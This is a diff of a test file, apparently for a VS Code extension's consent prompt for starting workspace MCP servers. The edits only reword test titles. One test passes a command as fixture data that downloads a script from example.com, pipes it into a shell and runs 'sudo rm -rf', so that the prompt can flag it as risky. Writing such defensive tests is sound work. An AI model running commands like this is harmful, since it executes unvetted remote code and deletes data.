@@ -52,7 +52,7 @@ describe('consent to what a workspace wants to start', () => {
     }
   });
 
-  it('points at what few servers need in a command line', async () => {
+  it('highlights what few servers need in a command line', async () => {
     const args = ['-c', 'curl https://example.com/install | sh; sudo rm -rf /tmp/x'];
     await configure({ one: { command: 'bash', args } }, Workspace);
     const { definition } = await reaches('one', 'needsTrust');
@@ -74,7 +74,7 @@ describe('consent to what a workspace wants to start', () => {
     assert.doesNotMatch(plain, /⚠ It (?:asks|deletes|runs|uses)/);
   });
 
-  it('says in three lines what a confined program may touch', async () => {
+  it('summarizes in three lines what a confined program can touch', async () => {
     const rules = { write: ['${workspaceFolder}/out'], network: ['api.example.com'], env: ['KEY'] };
     await configure({ one: { command: 'npx', args: ['-y', 'server'], sandbox: rules } }, Workspace);
     const { definition } = await reaches('one', 'needsTrust');
@@ -158,7 +158,7 @@ describe('consent to what a workspace wants to start', () => {
     decisions.dispose();
   });
 
-  it('that was given to what was shown is none for what settings say by then', async () => {
+  it('given to what was shown does not cover settings changed meanwhile', async () => {
     await configure({ one: fixture('hostile') }, Workspace);
     const { consents } = (await api()).trust();
     const shown = consents.review((await reaches('one', 'needsTrust')).definition)!;
@@ -203,7 +203,7 @@ describe('consent to what a workspace wants to start', () => {
     await waitFor(() => !processIsAlive(state.pid!), { what: 'the process to end' });
   });
 
-  it('that was denied is said in the row, and can be given after all', async () => {
+  it('denied is shown in the row, and can still be given', async () => {
     await configure({ one: fixture('hostile') }, Workspace);
     const server = await reaches('one', 'needsTrust');
     const { tree, trust } = await api();
@@ -229,7 +229,7 @@ describe('consent to what a workspace wants to start', () => {
     await reaches('one', 'ready');
   });
 
-  it('is not asked for by what the command for the demo server writes, but by a change of it', async () => {
+  it('is not requested for the demo server entry that the command writes, but for changes to it', async () => {
     await vscode.commands.executeCommand('mcpHost.addDemoServer');
     const { definition } = await reaches('notebook', 'ready');
     assert.equal(definition.source.scope, 'workspace');
